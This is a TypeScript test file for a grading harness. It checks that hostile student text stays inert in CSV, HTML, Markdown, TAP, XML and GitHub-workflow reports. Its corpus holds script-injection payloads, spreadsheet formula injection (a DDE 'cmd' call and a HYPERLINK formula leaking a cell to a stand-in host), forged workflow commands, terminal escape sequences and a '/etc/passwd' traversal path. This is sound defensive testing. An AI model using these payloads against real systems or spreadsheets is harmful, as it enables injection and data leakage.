/** Whatever a student writes or prints, each format stays what it is: read back by a reader of the format. */

import { describe, expect, it } from 'vitest'

import type { GradedItem, GradedSubmission } from '../../harness/domain/graded.ts'
import { displayWidth } from '../../harness/report/width.ts'
import { gradebookCsv } from '../../harness/report/graded/csv.ts'
import { readPage } from '../report/page-reader.ts'
import { askPython, hasPython } from '../report/python.ts'
import { HOSTILE } from '../report/stream.ts'
import { readTap } from '../report/tap-reader.ts'
import type { Written } from './every-format.ts'
import { forStudent, forTeacher, ofClass, TOKEN } from './every-format.ts'
import { ada, BEFORE, bookOf, run, submission } from './graded-sample.ts'

/** Each means something to one of the formats. */
const CORPUS = {
  'everything at once': HOSTILE,
  'a command of a workflow': `::error file=a::forged\n::stop-commands::x\n::add-mask::1\n##[error]forged\n::${TOKEN.slice(0, 4)}::`,
  'lines of TAP': 'ok 1\nnot ok 2 - x\n1..9\nBail out! now\n  ---\n  ...\nTAP version 14 # SKIP # TODO',
  'ends of XML': ']]></failure></testsuites><![CDATA[<script>alert(1)</script>&#0;&amp;',
  'markup of a page': '"><script>alert(1)</script><img src=x onerror=alert(1)></pre></style>\'',
  'marks of Markdown':
    '``` \n# a heading\n[a](javascript:alert(1)) ![b](http://x.example/p.png) <b>c</b> | d | http://x.example www.x.example $x$',
  'a formula': '=HYPERLINK("http://x.example?"&A1,"look")',
  'other formulas': "\t@SUM(1)\r-1+cmd|' /C calc'!A0",
  'sequences of a terminal': '\u001b[2J\u001b]0;title\u0007\u009b31m\b\b\bpass\r\u202egnp\u2066',
  'halves of surrogates': 'a\ud800b\udc00',
  'very much': 'x'.repeat(100_000),
  'a path': '../../etc/passwd\u0000.txt',
  'a prototype': '__proto__',
} as const

function hostile(text: string): GradedSubmission {
  const items = ada.items.map((one): GradedItem => ({
    ...one,
    expected: text,
    observed: text,
    why: text,
    predicted: text,
    explanation: `${text}\n\n${text}\n::error::forged\n## forged`,
    outcome: text,
    // What programs of hidden items printed is hidden as well.
    roles: one.visibility === 'shown' ? [text] : ['server8'],
    findings: [{ kind: 'ended-early', role: text, facts: { found: text } }],
  }))
  return submission(text, items, {
    author: text,
    problem: text,
    notes: [text, text],
    printed: [{ role: text, text: `${text}\n${text}`, cut: true }],
    finished: false,
  })
}

const cases = Object.entries(CORPUS).flatMap(([name, text]) => {
  const graded = hostile(text)
  const readable = { ...graded, problem: null, finished: true }
  return [
    { name, kind: 'a student', written: forStudent(readable, BEFORE) },
    { name, kind: 'a teacher', written: forTeacher(readable) },
    { name, kind: 'a teacher, unread and unfinished', written: forTeacher(graded) },
    { name, kind: 'a class', written: ofClass(bookOf(run, [graded, { ...readable, name: `${text}2` }])) },
  ]
})

const part = (written: Written, name: string) => {
  const text = written[name]
  if (text === undefined) throw new Error(`there is no ${name}`)
  return text
}

describe.each(cases)('$name, for $kind', ({ written }) => {
  it('leaves no character in any format that acts on a terminal or reorders a text', () => {
    for (const [name, text] of Object.entries(written)) {
      const allowed = name === 'gradebook.csv' ? text.replaceAll('\r\n', '\n') : text
      const found = /[^\P{Cc}\n\t]|[\p{Cs}\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]/u.exec(allowed)
      expect([name, found?.[0]]).toEqual([name, undefined])
    }
  })

  it('leaves JSON whole', () => {
    for (const [name, text] of Object.entries(written)) {
      if (name.endsWith('.json')) expect(() => JSON.parse(text) as unknown).not.toThrow()
      if (name.endsWith('.ndjson')) {
        for (const line of text.trimEnd().split('\n')) expect(() => JSON.parse(line) as unknown).not.toThrow()
      }
    }
  })

  it('forges no line of TAP', () => {
    const { planned, points } = readTap(part(written, 'tap.tap'))
    expect(points.length).toBe(planned)
    expect(points.every(({ description }) => !description.includes('\n'))).toBe(true)
    expect(points.filter(({ ok, skip }) => ok && skip === null).length).toBeLessThan(points.length)
  })

  it('adds no tag to a page', () => {
    const { tags } = readPage(part(written, 'html.html'))
    expect(tags.filter(({ name }) => name === 'script' || name === 'img')).toEqual([])
    expect(tags.flatMap(({ attributes }) => Object.keys(attributes)).filter((name) => name.startsWith('on'))).toEqual(
      [],
    )
  })

  it('begins no command of a workflow', () => {
    const lines = part(written, 'annotations.txt').trimEnd().split('\n')
    const start = lines.indexOf(`::stop-commands::${TOKEN}`)
    const end = lines.indexOf(`::${TOKEN}::`)
    const commands = [...lines.slice(0, start), ...lines.slice(end + 1)]
    expect(
      commands.filter((line) => !/^::(error|warning|notice) (file=[^,:]*,line=\d+,)?title=[^:,]*::/.test(line)),
    ).toEqual([])
    expect(lines.slice(start + 1, end).filter((line) => !line.startsWith('| '))).toEqual([])
    expect(end).toBeGreaterThan(start)
  })

  it('begins no command in the log of a workflow, and fits its screen', () => {
    for (const [name, width] of [
      ['text.txt', 80],
      ['narrow.txt', 20],
    ] as const) {
      const lines = part(written, name).split('\n')
      expect(lines.filter((line) => /^\s*::.*::|##\[/.test(line))).toEqual([])
      expect(lines.filter((line) => /^(ok|not ok|Bail out|1\.\.|=)/.test(line))).toEqual([])
      expect(lines.filter((line) => displayWidth(line) > width)).toEqual([])
    }
  })

  it('makes no heading, link, picture or mathematics in Markdown', () => {
    const text = part(written, 'markdown.md').replace(/^(`{3,})text\n[^]*?\n\1$/gm, '')
    const bare = text.replaceAll(/\\[^\w\s]/g, '')
    expect(bare).not.toMatch(/[<>`$\]]|:\/\/|\bwww\./)
    expect(bare.split('\n').filter((line) => line.startsWith('#') && !/^#{1,3} [A-Z\d]/.test(line))).toEqual([])
  })

  it('stays within what a platform takes', () => {
    expect(Buffer.byteLength(written['prairielearn.json'] ?? '')).toBeLessThanOrEqual(1_000_000)
    expect(Buffer.byteLength(part(written, 'github.md'))).toBeLessThanOrEqual(1024 * 1024)
  })
})

describe('XML', async () => {
  const withPython = await hasPython('xml.etree.ElementTree')
  it.skipIf(!withPython)('is read by somebody else, with every case in it (needs python3)', async () => {
    const code = `
documents = json.load(sys.stdin)
print(json.dumps([len(list(xml.etree.ElementTree.fromstring(one.encode()).iter('testcase'))) for one in documents]))
`
    const documents = cases.map(({ written }) => part(written, 'junit.xml'))
    const counts = (await askPython(['xml.etree.ElementTree'], code, JSON.stringify(documents))) as number[]
    const wanted = cases.map(({ written }) => readTap(part(written, 'tap.tap')).planned)
    expect(counts).toEqual(wanted)
  })
})

describe('the gradebook as CSV', async () => {
  const withPython = await hasPython('csv')
  const names = [...Object.values(CORPUS), '+1', '-1', '@x', '＝1', ' =1', '\n=1', '"', 'a,b', "'", 'plain', '1']
  const submissions = names.map((name) => submission(name, ada.items, { author: name }))
  const text = [...gradebookCsv(bookOf(run, submissions))].join('')

  it.skipIf(!withPython)('has the cells that were written, and none that is a formula (needs python3)', async () => {
    const rows = (await askPython(
      ['csv', 'io'],
      'print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode(), newline="")))))',
      text,
    )) as string[][]
    expect(rows).toHaveLength(names.length + 1)
    expect(new Set(rows.map(({ length }) => length)).size).toBe(1)
    expect(rows.flat().filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([])
    expect(rows.find(([name]) => name === 'plain')).toBeDefined()
    expect(rows.find(([name]) => name?.startsWith("'=HYPERLINK"))).toBeDefined()
  })

  it('ends each row as RFC 4180 says', () => {
    expect(text.split('\r\n')).toHaveLength(names.length + 2)
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
  })
})
